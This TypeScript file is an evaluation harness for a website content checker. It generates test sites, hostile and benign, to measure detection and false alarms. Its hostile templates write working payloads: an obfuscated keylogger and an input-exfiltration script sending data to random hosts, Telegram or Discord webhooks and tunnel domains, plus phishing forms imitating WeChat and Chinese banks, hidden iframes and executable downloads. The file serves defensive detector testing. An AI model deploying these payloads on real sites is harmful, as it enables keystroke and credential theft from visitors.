/**
 * The content check's evaluation (docs/content-check.md): the corpus in
 * test/fixtures/content-corpus (ordinary sites and labelled hostile ones), and a held-out set
 * generated at run time from templates with other hosts, names, brands and obfuscations, so the
 * rules are measured on sites they were not written against. Detection: a hostile site has a risk
 * finding of medium or high. False alarm: an ordinary site has one.
 */
import { randomInt as cryptoRandomInt } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import type { ContentCheckReport } from '@sitehall/contracts';
import { analyzeSite, type FileText } from '../../src/content-check/analyze.js';

export const CORPUS_DIR = path.resolve(import.meta.dirname, '../fixtures/content-corpus');

export interface CorpusSite {
  group: 'benign' | 'hostile';
  name: string;
  label: string;
  files: Record<string, string>;
}

export function loadCorpus(): CorpusSite[] {
  const labels = JSON.parse(fs.readFileSync(path.join(CORPUS_DIR, 'labels.json'), 'utf8')) as Record<
    'benign' | 'hostile',
    Record<string, string | { kind: string }>
  >;
  const out: CorpusSite[] = [];
  for (const group of ['benign', 'hostile'] as const) {
    for (const [name, label] of Object.entries(labels[group])) {
      const dir = path.join(CORPUS_DIR, group, name);
      const files: Record<string, string> = {};
      for (const rel of fs.readdirSync(dir, { recursive: true, encoding: 'utf8' })) {
        const full = path.join(dir, rel);
        if (fs.statSync(full).isFile()) files[rel.split(path.sep).join('/')] = fs.readFileSync(full, 'utf8');
      }
      out.push({ group, name, label: typeof label === 'string' ? label : label.kind, files });
    }
  }
  return out;
}

export function checkSite(files: Record<string, string>): ContentCheckReport {
  const list: FileText[] = Object.entries(files).map(([p, text]) => ({
    path: p,
    size: Buffer.byteLength(text),
    extension: p.includes('.') ? p.slice(p.lastIndexOf('.') + 1).toLowerCase() : '',
    text,
    complete: true,
  }));
  const entry = files['index.html'] !== undefined ? 'index.html' : null;
  return analyzeSite(list, entry);
}

export const flagged = (r: ContentCheckReport) => r.counts.high + r.counts.medium > 0;

export interface Evaluation {
  rows: Array<{ site: CorpusSite; level: string; flagged: boolean; rules: string[] }>;
  hostile: number;
  detected: number;
  benign: number;
  falseAlarms: number;
}

export function evaluate(sites: readonly CorpusSite[]): Evaluation {
  const rows = sites.map((site) => {
    const r = checkSite(site.files);
    const rules = [
      ...new Set(
        r.findings
          .filter((f) => f.category === 'risk' && (f.severity === 'high' || f.severity === 'medium'))
          .map((f) => f.rule ?? f.kind),
      ),
    ];
    return { site, level: r.level, flagged: flagged(r), rules };
  });
  const hostile = rows.filter((r) => r.site.group === 'hostile');
  const benign = rows.filter((r) => r.site.group === 'benign');
  return {
    rows,
    hostile: hostile.length,
    detected: hostile.filter((r) => r.flagged).length,
    benign: benign.length,
    falseAlarms: benign.filter((r) => r.flagged).length,
  };
}

export function formatEvaluation(title: string, e: Evaluation): string {
  const lines = [`${title}`];
  for (const r of e.rows) {
    const mark =
      r.site.group === 'hostile' ? (r.flagged ? '✓' : '✗ MISSED') : r.flagged ? '✗ FALSE ALARM' : '✓';
    lines.push(
      `  ${r.site.group.padEnd(7)} ${r.site.name.padEnd(32)} ${r.level.padEnd(6)} ${mark} ${r.rules.join(' ')}`,
    );
  }
  const pct = (a: number, b: number) => `${((100 * a) / Math.max(b, 1)).toFixed(1)}%`;
  lines.push(
    `  detection ${e.detected}/${e.hostile} (${pct(e.detected, e.hostile)}), false alarms ${e.falseAlarms}/${e.benign} (${pct(e.falseAlarms, e.benign)})`,
  );
  return lines.join('\n');
}

/* ---- The held-out set: the same kinds, other words. ---- */

/**
 * The held-out set's draws come from one seeded generator (mulberry32), so a run that misses a
 * site can be made again: `heldOut` takes the seed and the callers print it.
 */
let state = 0;
function next(): number {
  state = (state + 0x6d2b79f5) | 0;
  let t = state;
  t = Math.imul(t ^ (t >>> 15), t | 1);
  t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
}
/** An integer in [min, max), or [0, min) with one argument (as node:crypto's randomInt). */
function randomInt(min: number, max?: number): number {
  const [lo, hi] = max === undefined ? [0, min] : [min, max];
  return lo + Math.floor(next() * (hi - lo));
}
function randomBytes(n: number): Buffer {
  return Buffer.from(Array.from({ length: n }, () => randomInt(256)));
}
/** A fresh seed, for a run that was not given one. */
export function newSeed(): number {
  return cryptoRandomInt(2 ** 31);
}

const pick = <T>(xs: readonly T[]): T => xs[randomInt(xs.length)]!;
const word = () => randomBytes(4).toString('hex');
const tlds = ['com', 'net', 'xyz', 'top', 'cc', 'info', 'site', 'online', 'shop', 'club'];
const host = () => `${pick(['cdn', 'api', 'static', 'img', 'log', 'data', 'sync'])}-${word()}.${pick(tlds)}`;
const b64 = (s: string) => Buffer.from(s).toString('base64');
const charCodes = (s: string) => [...s].map((c) => `0x${c.charCodeAt(0).toString(16)}`).join(',');
const page = (title: string, body: string) =>
  `<!doctype html><html lang="zh-CN"><head><meta charset="utf-8"><title>${title}</title></head><body>\n${body}\n</body></html>\n`;

/** An expression that evaluates to `url`, obfuscated one of several static ways. */
function obfuscatedUrl(url: string): string {
  switch (randomInt(5)) {
    case 0:
      return `atob("${b64(url)}")`;
    case 1:
      return `String.fromCharCode(${charCodes(url)})`;
    case 2: {
      const cut = randomInt(8, url.length - 3);
      return `"${url.slice(0, cut)}" + "${url.slice(cut)}"`;
    }
    case 3:
      return `"${[...url].reverse().join('')}".split("").reverse().join("")`;
    default:
      return `decodeURIComponent("${[...url].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}")`;
  }
}

function hostileHeldOut(): CorpusSite[] {
  const sites: CorpusSite[] = [];
  const add = (name: string, label: string, files: Record<string, string>) =>
    sites.push({ group: 'hostile', name: `${name}-${word()}`, label, files });
  const evil = `https://${host()}/${word()}`;
  const key = pick(['keydown', 'keyup', 'keypress', 'input']);
  add('keylogger', 'keylogger', {
    'index.html': page('笔记', `<textarea></textarea><script src="${word()}.js"></script>`),
    [`${word()}.js`]: `var ${pick(['a', 'q', '_0x3f'])} = ${obfuscatedUrl(evil)};\n`,
  });
  // The page above loads a script by a random name: put the keylogger in it.
  const main = Object.keys(sites[0]!.files).find((f) => f.endsWith('.js'))!;
  const html = sites[0]!.files['index.html']!.replace(/src="[^"]+"/, `src="${main}"`);
  sites[0]!.files['index.html'] = html;
  sites[0]!.files[main] =
    `var u = ${obfuscatedUrl(evil)};\ndocument.addEventListener("${key}", function (e) { ${pick([
      'new Image().src = u + "?k=" + e.key;',
      'fetch(u, { method: "POST", body: e.key });',
      'navigator.sendBeacon(u, e.key);',
    ])} });\n`;
  const frameHow = pick([
    'width="0" height="0"',
    'style="display:none"',
    'style="visibility:hidden"',
    'style="position:absolute;left:-9999px;top:0"',
    'width="1" height="1" frameborder="0"',
  ]);
  add('hidden-frame', 'hidden_frame', {
    'index.html': page(
      '首页',
      `<p>${word()}</p><iframe src="https://${host()}/${word()}" ${frameHow}></iframe>`,
    ),
  });
  const brand = pick(['微信', 'QQ', '支付宝', '建设银行', '招商银行', 'Apple ID']);
  const lure = pick([
    '账户已锁定',
    '账号异常，已被冻结',
    '请立即验证身份',
    '恭喜您中奖，领取前请验证',
    '异常登录提醒',
  ]);
  const target = pick([`https://${host()}/${word()}`, `${word()}.php`, `save.asp`, null]);
  add('phishing', 'phishing', {
    'index.html': page(
      `${brand}安全中心`,
      `<h1>${brand}</h1><p>${lure}</p><form method="post"${target ? ` action="${target}"` : ''}><input name="${word()}" placeholder="账号"><input type="password" name="${word()}"><button>确定</button></form>` +
        (target === null
          ? `<script>document.forms[0].action = ${obfuscatedUrl(`https://${host()}/p`)};</script>`
          : ''),
    ),
  });
  const ext = pick(['exe', 'msi', 'apk', 'scr', 'bat', 'cmd', 'ps1', 'dmg', 'jar', 'vbs']);
  add('executable', 'executable_download', {
    'index.html': page(
      '下载',
      pick([
        `<a href="https://${host()}/${word()}.${ext}">下载</a>`,
        `<a href="${word()}.zip" download="${word()}.${ext}">下载</a>`,
        `<script>location.href = ${obfuscatedUrl(`https://${host()}/${word()}.${ext}`)};</script>`,
      ]),
    ),
  });
  const topic = pick([
    '真人荷官 百家乐 老虎机 首存送彩金 返水',
    '时时彩 幸运飞艇 导师带单 稳赚 计划群',
    '日收益 5% 保本保息 零风险 高收益 USDT',
    '刷单返利 佣金日结 垫付 保证金 提现',
  ]);
  const contact = pick([
    `微信：${pick(['vip', 'kf', 'zz'])}${word()}`,
    `QQ：${randomInt(10000, 999999999)}`,
    `t.me/${word()}${word()}`,
  ]);
  add('scam', 'scam_text', {
    'index.html': page(
      '官方',
      `<p>${topic}</p><p>${contact}</p><img src="${pick(['qr', 'skm', 'qrcode'])}.png" alt="扫码">`,
    ),
  });
  add('obfuscation', 'obfuscation', {
    'index.html': page(
      '页面',
      `<script>${pick([
        `document.write(atob("${b64(`<p>${word()}</p>`)}"));`,
        `eval(String.fromCharCode(${charCodes('console.log(1)')}));`,
        `setTimeout(unescape("%63%6f%6e%73%6f%6c%65%2e%6c%6f%67%28%31%29"), 10);`,
        `document.body.innerHTML = decodeURIComponent("%3Cb%3E${word()}%3C%2Fb%3E");`,
        `new Function(atob("${b64('return 1')}"))();`,
      ])}</script>`,
    ),
  });
  const exfil = pick([
    `https://api.telegram.org/bot${randomInt(1e9)}:${word()}/sendMessage?chat_id=1&text=`,
    `https://discord.com/api/webhooks/${randomInt(1e9)}/${word()}`,
    `http://${randomInt(11, 99)}.${randomInt(1, 254)}.${randomInt(1, 254)}.${randomInt(1, 254)}:${randomInt(1000, 9999)}/c`,
    `https://${word()}.${pick(['ngrok-free.app', 'trycloudflare.com', 'loca.lt', 'natappfree.cc', 'cpolar.top'])}/c`,
  ]);
  add('exfil', 'exfil_endpoint', {
    'index.html': page(
      '活动',
      `<input id="p"><script>var e = ${obfuscatedUrl(exfil)}; fetch(e + encodeURIComponent(document.getElementById("p").value));</script>`,
    ),
  });
  return sites;
}

function benignHeldOut(): CorpusSite[] {
  const sites: CorpusSite[] = [];
  const add = (name: string, files: Record<string, string>) =>
    sites.push({ group: 'benign', name: `${name}-${word()}`, label: name, files });
  const hash = word();
  add('vite-build', {
    'index.html': page(
      'App',
      `<div id="app"></div><script type="module" src="/assets/index-${hash}.js"></script>`,
    ),
    [`assets/index-${hash}.js`]: `const e=document.getElementById("app");e.textContent="${word()}";fetch("/api/${word()}").catch(()=>{});\n`,
  });
  add('login-demo', {
    'index.html': page(
      pick(['登录', '用户登录', '后台管理系统']),
      `<form action="${pick(['#', '', 'javascript:void(0)'])}"><input name="u"><input type="password" name="p"><button>登录</button></form>`,
    ),
  });
  add('search', {
    'index.html': page(
      '导航',
      `<form action="https://${pick(['www.baidu.com/s', 'www.bing.com/search', 'www.google.com/search', 'www.sogou.com/web'])}" method="get"><input name="q"></form>`,
    ),
  });
  add('embed', {
    'index.html': page(
      '视频',
      `<iframe src="${pick(['https://player.bilibili.com/player.html?bvid=BV1', 'https://www.youtube.com/embed/', 'https://player.vimeo.com/video/'])}${word()}" width="640" height="360"></iframe>`,
    ),
  });
  add('form-service', {
    'index.html': page(
      '联系',
      `<form action="https://${pick(['formspree.io/f/', 'getform.io/f/', 'wj.qq.com/s2/', 'jinshuju.net/f/'])}${word()}" method="post"><input name="email"><textarea name="msg"></textarea></form>`,
    ),
  });
  add('analytics', {
    'index.html': page(
      '博客',
      `<p>${word()}</p><script>var _hmt=_hmt||[];(function(){var hm=document.createElement("script");hm.src="https://hm.baidu.com/hm.js?${word()}";var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(hm,s)})();</script>`,
    ),
  });
  add('cdn-libs', {
    'index.html': page(
      '作品',
      `<script src="https://${pick(['cdn.jsdelivr.net/npm/vue@3', 'unpkg.com/react@18/umd/react.production.min.js', 'cdn.bootcdn.net/ajax/libs/jquery/3.7.1/jquery.min.js'])}"></script><p>${word()}</p>`,
    ),
  });
  add('game', {
    'index.html': page(
      '小游戏',
      `<canvas id="c"></canvas><script>let s=0;document.addEventListener("keydown",e=>{if(e.key===" ")s++;document.title=s})</script>`,
    ),
  });
  add('chinese-names', {
    'index.html': page('相册', `<a href="${pick(['照片', '作品', '旅行'])}\\第一页.html">第一页</a>`),
    [`${['照片', '作品', '旅行'][0]}/第一页.html`]: page('第一页', '<p>你好</p>'),
  });
  add('resume', {
    'index.html': page(
      '简历',
      `<h1>${word()}</h1><p>微信：${pick(['li', 'wang', 'zhao'])}_${word()}</p><img src="wechat-qr.png" alt="二维码">`,
    ),
  });
  return sites;
}

/** A held-out set: `rounds` draws of every hostile and ordinary template, the same for the same seed. */
export function heldOut(rounds: number, seed: number): CorpusSite[] {
  state = seed | 0;
  const out: CorpusSite[] = [];
  for (let i = 0; i < rounds; i++) out.push(...hostileHeldOut(), ...benignHeldOut());
  return out;
}
